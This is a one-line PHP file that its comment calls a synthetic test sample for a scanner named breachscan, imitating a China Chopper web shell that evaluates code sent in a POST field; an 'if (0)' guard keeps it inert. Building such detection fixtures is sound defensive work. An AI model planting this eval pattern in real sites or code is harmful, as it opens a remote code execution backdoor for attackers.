<?php /* synthetic test sample for breachscan: China Chopper style one-liner */ if (0) @eval($_POST['z']); ?>
